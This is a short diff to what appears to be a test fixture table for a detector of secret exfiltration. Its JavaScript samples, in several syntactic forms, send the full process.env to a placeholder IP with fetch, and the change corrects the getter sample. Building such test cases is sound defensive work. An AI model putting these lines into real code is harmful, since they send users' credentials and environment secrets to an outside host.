@@ -13,7 +13,7 @@ const TEXTS: { readonly [name: string]: string } = {
   'a method of an object': `const a = { send(x) { fetch('http://203.0.113.7/', { body: x }); } };
     a.send(JSON.stringify(process.env));`,
   'a getter': `const a = { get all() { return process.env; } };
-    fetch('http://203.0.113.7/', { body: JSON.stringify(a.all()) });`,
+    fetch('http://203.0.113.7/', { body: JSON.stringify(a.all) });`,
   'an optional call': `const f = globalThis?.fetch;
     f?.('http://203.0.113.7/', { body: JSON.stringify(process?.env) });`,
   'an optional member': `import cp from 'child_process';
